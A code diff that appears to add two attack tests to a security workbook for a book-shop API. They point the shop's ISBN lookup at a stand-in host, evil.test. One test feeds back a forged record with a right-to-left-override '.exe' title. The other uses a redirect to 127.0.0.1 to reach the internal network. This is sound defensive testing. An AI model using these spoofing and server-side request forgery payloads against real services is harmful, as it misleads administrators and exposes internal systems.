@@ -9,11 +9,16 @@ what it writes down about its callers.
 """
 
 import re
+from urllib.parse import quote
 
-from workbook.attacking import Loot, Outcome, Shop, Stopped, excerpt, expect, exploit, stopped_by
+import httpx
+
+from workbook.attacking import Crashed, Loot, Outcome, Shop, Stopped, excerpt, expect, exploit, stopped_by
 
 BOOKS = "/api/books"
 ORDER = {"title": "One copy of it", "author": "Somebody"}
+EMMA = "9780141439587"
+A_LIE = '{"title": "Emma\\u202egpj.exe", "author": 7, "isbn": "9780306406157", "publisher": "us"}'
 COUNTED = re.compile(r"^books_requests_total\{.*\} \d", re.MULTILINE)
 
 
@@ -30,6 +35,51 @@ def read_the_counters(shop: Shop) -> Outcome:
         example = next(line for line in answer.text.splitlines() if line.startswith("books_requests_total{"))
         return Loot(f"{len(counted)} series, such as {excerpt(example)}")
     return stopped_by(answer)
+
+
+# 9.3 Whom the shop asks -----------------------------------------------------------------------------------------------
+
+
+def looked_up(admin: httpx.Client) -> httpx.Response | None:
+    """The answer to a look-up; None where the shop says that there is none to be had (503)."""
+    try:
+        return admin.get(f"/api/isbn/{EMMA}")
+    except Crashed as refusal:
+        if "answers 503" not in str(refusal):
+            raise
+        return None
+
+
+@exploit(
+    "9.3",
+    "API10",
+    "what another service says",
+    settings={"LOOKUP_URL": f"http://evil.test/say?text={quote(A_LIE)}&isbn={{isbn}}"},
+)
+def lie_about_a_book(shop: Shop) -> Outcome:
+    """The service was sold. Its new owners answer each question with what they like."""
+    answer = looked_up(shop.sign_in("admin"))
+    if answer is None:
+        return Stopped("503: that is no answer, and nobody gets to see it")
+    said = expect(answer).json()
+    return Loot(
+        f"an administrator asks for {EMMA}, and is shown {said['title']!r} by {said['author']!r}, {said['isbn']}"
+    )
+
+
+@exploit(
+    "9.3",
+    "API10",
+    "a redirect into the shop's own network",
+    settings={"LOOKUP_URL": "http://evil.test/to?url=http://127.0.0.1/&isbn={isbn}"},
+)
+def send_the_shop_home(shop: Shop) -> Outcome:
+    """The address that the operator has set is outside. Where it sends the shop is inside."""
+    answer = looked_up(shop.sign_in("admin"))
+    if answer is None:
+        return Stopped("503: a redirect is not followed")
+    expect(answer)
+    return Loot("the shop has asked its own till, and taken what it said for a book")
 
 
 # 9.5 What is written down about callers -------------------------------------------------------------------------------
